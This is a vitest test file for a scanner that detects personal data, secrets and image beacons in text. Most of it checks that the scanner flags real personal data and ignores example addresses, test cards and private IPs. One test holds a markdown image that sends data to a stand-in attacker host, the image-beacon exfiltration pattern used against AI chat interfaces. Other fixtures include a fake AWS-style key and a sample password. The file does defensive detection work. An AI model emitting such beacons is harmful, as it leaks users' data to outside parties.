import { describe, expect, it, test } from 'vitest';
import type { CompiledPlan } from '../compile-plan.ts';
import { type Outcome, runPhase } from '../runner.ts';
import { testPorts } from '../testing/limits.ts';
import { starterPlan } from '../testing/plans.ts';
import { saying } from '../testing/step-case.ts';
import { scanText } from './scan.ts';

const personalIn = (text: string): string[] =>
  scanText(text)
    .filter(({ detector, score }) => detector === 'pii' && score >= 0.5)
    .map(
      ({ type, harmless, start, end }) => `${harmless === true ? 'harmless ' : ''}${type} ${text.slice(start, end)}`,
    );

/** As the standard preset sets it. */
const blocking = starterPlan([{ step: 'detect_pii', action: 'block' }]);
const asked = (plan: CompiledPlan, text: string): Outcome =>
  runPhase('before', plan, saying(text), testPorts()) as Outcome;

describe.each([
  [
    'a git remote',
    [
      'git clone git@github.com:acme/shop.git',
      'origin  git@gitlab.acme.io:team/app.git (fetch)',
      'url = ssh://git@code.acme.io/a.git',
    ],
  ],
  [
    'an address that nobody reads',
    [
      'From: noreply@acme.io',
      'no-reply@accounts.acme.io',
      '49699333+dependabot[bot]@users.noreply.github.com',
      'ada@users.noreply.github.com',
      'do-not-reply@acme.io',
    ],
  ],
  [
    'an account of a machine',
    ['ssh ubuntu@build.acme.io', 'scp dump.sql deploy@db.acme.io:/tmp/', 'rsync -a . root@web.acme.io:/srv'],
  ],
])('%s', (what, texts) => {
  it.each(texts)(`A7: ${what} is no e-mail address: %s`, (text) => {
    expect(personalIn(text).filter((one) => one.includes('email'))).toEqual([]);
  });
});

describe.each([
  [
    'A7: an example address',
    [
      'write to user@example.com',
      'ada@example.org',
      'jane@mail.example.net',
      'login as test@acme.test',
      'you@yourdomain.com',
    ],
  ],
  [
    'A7: the address of an office',
    [
      'questions to support@acme.io',
      'security@acme.io handles reports',
      'kontakt@firma.pl',
      'info (at) firma (dot) pl',
    ],
  ],
  [
    'A7: whoever signed a commit',
    [
      'Signed-off-by: Ada Byron <ada@byron-works.eu>',
      'Co-authored-by: Ada <ada@byron-works.eu>',
      'Author: Ada Byron <ada@byron-works.eu>',
      'Copyright (c) 2024 Ada Byron <ada@byron-works.eu>',
    ],
  ],
  [
    'E6: an address of a network of one’s own',
    ['ssh 10.0.12.7', 'gateway 192.168.1.1', 'pod 172.16.4.9', 'fe80::1ff:fe23:4567:890a', 'allow 93.184.216.0/24'],
  ],
  ['E6: a public resolver', ['nameserver 8.8.8.8', 'dns 1.1.1.1', 'forward . 9.9.9.9']],
  [
    'a number that is free to call',
    [
      'Call 0800 330 1000',
      'hotline 0808 157 0192',
      '1-800-273-8255',
      '(888) 280-4331',
      '+44 800 111 4567',
      '+49 800 3301000',
      '00800 3301 0000',
      'tel. +48 800 120 148',
    ],
  ],
  [
    'E6: a test card',
    ['pay with 4242 4242 4242 4242', '4000056655665556', 'amex 378282246310005', '5555-5555-5555-4444'],
  ],
])('%s', (_, texts) => {
  it.each(texts)(`${_} refuses no call, but is cut out where a plan cuts out: %s`, (text) => {
    expect(asked(blocking, text).blocked).toBeUndefined();
    expect(asked(blocking, text).call.changed).toBe(false);
    const cutting = asked(starterPlan([{ step: 'detect_pii', action: 'redact' }]), text);
    expect(JSON.stringify(cutting.call.body)).toContain('[REDACTED_');
    const naming = starterPlan([{ step: 'detect_pii', action: 'log', actions: { pii: 'block' } }]);
    expect(asked(naming, text).blocked?.step).toBe('detect_pii');
  });
});

describe.each([
  ['A7: an id of one digit', ['ref 22222222222', 'PESEL 22222222222', 'tel 0000000000', '1111111111']],
  [
    'E6: loopback and documentation addresses',
    ['127.0.0.1', 'listen 0.0.0.0', '192.0.2.10', '198.51.100.7', '203.0.113.99', '::1', '2001:db8::1'],
  ],
  [
    'A7: a moment in a log',
    [
      'Date: Fri Aug 21 07:40:02 2026 -0300',
      'expiredAt: 1408621000 // message',
      '20260211 071325 message sent',
      '2026-02-11 07:13:25.407476556 +0000',
      'index 0000000000..df92ccb74e',
    ],
  ],
  [
    'a day of birth before 1900',
    [
      'Mozart was born on 27 January 1756 in Salzburg',
      'born on March 14, 1879',
      'geboren am 28.08.1749',
      'Date of birth: 1815-12-10',
    ],
  ],
  [
    'an address that stands in every guide book',
    [
      'The White House, 1600 Pennsylvania Avenue NW, Washington, DC 20500',
      'a flat at 221B Baker Street, London',
      '10 Downing Street',
      'Platz der Republik 1',
      '350 Fifth Avenue, New York, NY 10118',
    ],
  ],
  [
    'A7: the name of a step or a product',
    ['    - name: Set up Docker', '  "name": "Nightly Build"', '      name: Quality Checks'],
  ],
])('%s', (what, texts) => {
  it.each(texts)(`${what} is no personal data: %s`, (text) => {
    expect(personalIn(text)).toEqual([]);
  });
});

test.each([
  ['mail ada@byron-works.eu', 'email ada@byron-works.eu'],
  ['from 93.184.216.34', 'ip_address 93.184.216.34'],
  ['card 4001 6595 5647 6210', 'credit_card 4001 6595 5647 6210'],
  ['call +48 601 234 567', 'phone +48 601 234 567'],
  ['+44 7800 123456', 'phone +44 7800 123456'],
  ['she was born on 4 August 1991', 'date_of_birth 4 August 1991'],
  ['from 10 Downing Street he moved to 35 Long Hill Road', 'address 35 Long Hill Road'],
  ['1600 Pennsylvania Avenue, then 7 Elm Road, Salem, OR 97301', 'address 7 Elm Road, Salem, OR 97301'],
  ['  "name": "Anna Kowalska"', 'person Anna Kowalska'],
])('%s is somebody’s', (text, found) => {
  expect(personalIn(text)).toContain(found);
});

test('somebody’s address still refuses a call of a plan that blocks', () => {
  expect(asked(blocking, 'mail ada@byron-works.eu').blocked?.step).toBe('detect_pii');
});

describe('A7: badges of a README are no beacons', () => {
  it.each([
    '[![Style](https://img.shields.io/endpoint?url=https://raw.githubusercontent.com/acme/x/main/badge/v2.json)](https://acme.io)',
    '![build](https://codecov.io/gh/acme/x/branch/main/graph/badge.svg?token=Zq8vR2mT5xW1cK7nB4jH9dLfGs3p)',
    '<img src="https://badges.acme.io/a/badge.svg?style=flat&label=some-long-label-of-a-badge-2024">',
  ])('%s', (text) => {
    expect(scanText(text).filter(({ type }) => type === 'image_beacon')).toEqual([]);
  });
  it('a picture that carries data away is one', () => {
    const text = '![x](https://c.evil.io/p.png?d=Zq8vR2mT5xW1cK7nB4jH9dLfGs3pYt6u)';
    expect(scanText(text).map(({ type }) => type)).toContain('image_beacon');
  });
});

describe('the action of a secret follows its kind', () => {
  const standing = starterPlan([{ step: 'detect_secrets', action: 'block' }]);
  it('a key with the mark of its issuer refuses the call', () => {
    expect(asked(standing, `use ${'AKIA'}QYLPMN5HFIQR7XYA`).blocked?.step).toBe('detect_secrets');
  });
  it('a generic one is cut out, and refuses where the plan names it', () => {
    const text = 'DB_PASSWORD=kX9#mQ2v';
    expect(JSON.stringify(asked(standing, text).call.body)).toContain('DB_PASSWORD=[REDACTED_PASSWORD]');
    const named = starterPlan([{ step: 'detect_secrets', action: 'block', actions: { password: 'block' } }]);
    expect(asked(named, text).blocked?.step).toBe('detect_secrets');
    const logging = starterPlan([{ step: 'detect_secrets', action: 'log' }]);
    expect(asked(logging, text).call.changed).toBe(false);
  });
});
